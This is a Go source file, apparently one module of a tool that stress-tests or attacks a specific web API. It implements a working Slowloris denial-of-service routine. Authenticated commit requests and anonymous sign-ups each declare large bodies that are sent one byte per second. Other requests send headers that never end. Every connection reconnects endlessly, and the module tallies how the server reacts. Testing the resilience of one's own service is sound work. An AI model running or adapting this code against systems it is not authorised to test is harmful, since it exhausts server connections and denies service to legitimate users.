package main

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"sync"
	"time"
)

// Slowloris (g): connections that send a request a byte or a line a second, reconnecting
// whenever the server ends one: slowBodies commits per account (8 accounts) declaring a 4 MiB
// body, slowSignups anonymous sign-ups declaring 256 KiB, and slowHeaders requests whose
// headers never end.
const (
	slowAccounts = 8
	slowBodies   = 2
	slowSignups  = 32
	slowHeaders  = 64
)

func (a *attacker) setupSlow(ctx context.Context) error {
	a.maxAccts = slowAccounts
	for i := range slowAccounts {
		if a.account(ctx, i) == nil {
			return fmt.Errorf("no account")
		}
	}
	return nil
}

func (a *attacker) attackSlow(ctx context.Context) {
	u, err := url.Parse(a.base)
	if err != nil || u.Scheme != "http" {
		a.setNote("slowloris needs an http:// URL")
		return
	}
	var wg sync.WaitGroup
	run := func(kind, head string, trickle func(i int) string) {
		wg.Go(func() {
			for ctx.Err() == nil {
				a.slowRequest(ctx, u.Host, kind, head, trickle)
			}
		})
	}
	for _, acct := range a.accounts {
		head := fmt.Sprintf("POST /api/v1/db/commit HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"+
			"Cookie: XSRF-TOKEN=%s\r\nX-XSRF-TOKEN: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n",
			u.Host, acct.Token, xsrf, xsrf, maxCommitBody)
		for range slowBodies {
			run("commit", head, func(int) string { return " " })
		}
	}
	signup := fmt.Sprintf("POST /api/v1/auth/signup HTTP/1.1\r\nHost: %s\r\nCookie: XSRF-TOKEN=%s\r\nX-XSRF-TOKEN: %s\r\n"+
		"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n", u.Host, xsrf, xsrf, 256<<10)
	for range slowSignups {
		run("signup", signup, func(int) string { return " " })
	}
	for range slowHeaders {
		run("headers", "GET /api/v1/auth/me HTTP/1.1\r\nHost: "+u.Host+"\r\n", func(i int) string { return "X-" + strconv.Itoa(i) + ": a\r\n" })
	}
	wg.Wait()
}

// slowRequest sends head, then trickle(i) once a second until the server answers or closes the
// connection, or ctx ends; it counts "KIND STATUS", "KIND cut" or "KIND stopped".
func (a *attacker) slowRequest(ctx context.Context, host, kind, head string, trickle func(i int) string) {
	conn, err := (&net.Dialer{Timeout: 10 * time.Second}).DialContext(ctx, "tcp", host)
	if err != nil {
		if ctx.Err() == nil {
			a.out.add(kind + " connect failed")
			sleepCtx(ctx, 100*time.Millisecond)
		}
		return
	}
	defer conn.Close()
	answered := make(chan string, 1)
	go func() {
		res, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			answered <- "cut"
			return
		}
		res.Body.Close()
		answered <- strconv.Itoa(res.StatusCode)
	}()
	_, err = conn.Write([]byte(head))
	t := time.NewTicker(time.Second)
	defer t.Stop()
	for i := 0; err == nil; i++ {
		select {
		case <-ctx.Done():
			a.out.add(kind + " stopped")
			return
		case got := <-answered:
			a.out.add(kind + " " + got)
			if got != "cut" {
				sleepCtx(ctx, 100*time.Millisecond)
			}
			return
		case <-t.C:
			_, err = conn.Write([]byte(trickle(i)))
		}
	}
	select { // the server closed the connection: its answer, if it sent one first
	case got := <-answered:
		a.out.add(kind + " " + got)
	case <-time.After(time.Second):
		a.out.add(kind + " cut")
	}
}
